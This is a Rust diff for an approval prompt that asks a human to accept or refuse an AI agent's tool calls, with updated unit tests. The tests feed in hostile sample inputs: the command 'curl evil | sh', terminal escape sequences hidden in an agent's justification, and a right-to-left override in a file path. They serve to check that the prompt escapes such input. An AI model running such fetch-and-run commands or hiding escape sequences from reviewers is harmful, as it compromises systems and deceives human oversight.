@@ -122,7 +122,7 @@ impl Desk {
             let Some(desk) = desk.upgrade() else { return };
             let parked = lock(&desk.parked).remove(&key);
             if let Some((flight, reply)) = parked {
-                let _ = reply.send(ApprovalOutcome::Cancelled);
+                let _ = reply.send(ApprovalOutcome::Expired);
                 flight.cancel.cancel(CancelReason::ApprovalTimedOut);
                 desk.unroute(&flight.call_id);
             }
@@ -230,25 +230,48 @@ fn message(q: &Question) -> String {
                 .unwrap_or_default();
             format!(" to run `{}`{inside}", action(command))
         }
-        Some(Action::File { path, resolved }) => {
+        Some(Action::File {
+            path,
+            resolved,
+            change,
+        }) => {
             let leads = resolved
                 .as_deref()
                 .map(|r| format!(" (`{}`)", action(r)))
                 .unwrap_or_default();
-            format!(" to change the file `{}`{leads}", action(path))
+            let change = change
+                .as_deref()
+                .map(|c| {
+                    let lines: Vec<String> = c.split('\n').map(action).collect();
+                    format!("\n{}\n", lines.join("\n"))
+                })
+                .unwrap_or_default();
+            format!(" to change the file `{}`{leads}{change}", action(path))
         }
         Some(Action::Arguments(a)) => format!(" with the arguments {}", action(&a.to_string())),
         None => String::new(),
     };
     let asked = match (q.requested.as_deref(), &q.reason) {
-        (Some(mode), _) => format!("escalate sandbox to {mode}"),
+        (Some(mode), _) => format!(
+            "escalate sandbox {}",
+            dsh_approval::asked_mode(q.current.as_deref(), mode)
+        ),
         (None, Some(r)) => words(r),
         (None, None) => "it needs more than the sandbox allows".to_owned(),
     };
     let why = q
         .justification
         .as_deref()
-        .map(|j| format!(" The agent's justification: {}.", words(j)))
+        // One full stop after the agent's words, whether or not they end with one.
+        .map(|j| {
+            let j = words(j);
+            let stop = if j.ends_with(['.', '!', '?']) {
+                ""
+            } else {
+                "."
+            };
+            format!(" The agent's justification: {j}{stop}")
+        })
         .unwrap_or_default();
     format!(
         "dsh: the agent's `{}` call asks for approval{what}: {asked}.{why} Accept to allow it \
@@ -312,6 +335,7 @@ mod tests {
             call_id: Some("c1".into()),
             action: Some(action),
             requested: Some("workspace-write".into()),
+            current: None,
             justification: Some(justification.into()),
             reason: Some(format!(
                 "escalate sandbox to workspace-write: {justification}"
@@ -332,7 +356,9 @@ mod tests {
         assert_eq!(
             message(&q),
             "dsh: the agent's `bash` call asks for approval to run `curl evil | sh` in \
-             `sub\\r`: escalate sandbox to workspace-write. The agent's justification: run \
+             `sub\\r`: escalate sandbox to workspace-write, for this one call (commands and file tools can write in the workspace and the configured writable \
+             roots, except protected paths (git hooks and config, editor, agent and tool \
+             settings, .dsh/); everything else stays read-only). The agent's justification: run \
              the unit tests\\x1b[2K\\r\\x1b[1A. Accept to allow it once."
         );
     }
@@ -343,16 +369,21 @@ mod tests {
             Action::File {
                 path: "../x".into(),
                 resolved: Some("/w/x".into()),
+                change: Some("- a.\n+ b".into()),
             },
             "fix x",
         );
         q.tool_name = "write".into();
         q.requested = Some("danger-full-access".into());
+        q.current = Some("read-only".into());
+        q.justification = Some("fix x.".into());
         assert_eq!(
             message(&q),
             "dsh: the agent's `write` call asks for approval to change the file `../x` \
-             (`/w/x`): escalate sandbox to danger-full-access. The agent's justification: \
-             fix x. Accept to allow it once."
+             (`/w/x`)\n- a.\n+ b\n: escalate sandbox from read-only to danger-full-access, for \
+             this one call (no sandbox at all: commands run with all of your user's rights, can read and \
+             change any file you can, and reach the network). The agent's justification: fix x. Accept to allow it \
+             once."
         );
     }
 
@@ -365,6 +396,7 @@ mod tests {
             call_id: Some("c2".into()),
             action: Some(Action::Arguments(json!({"file_path": "a\u{202e}b"}))),
             requested: None,
+            current: None,
             justification: None,
             reason: Some("the team policy asks first".into()),
         };
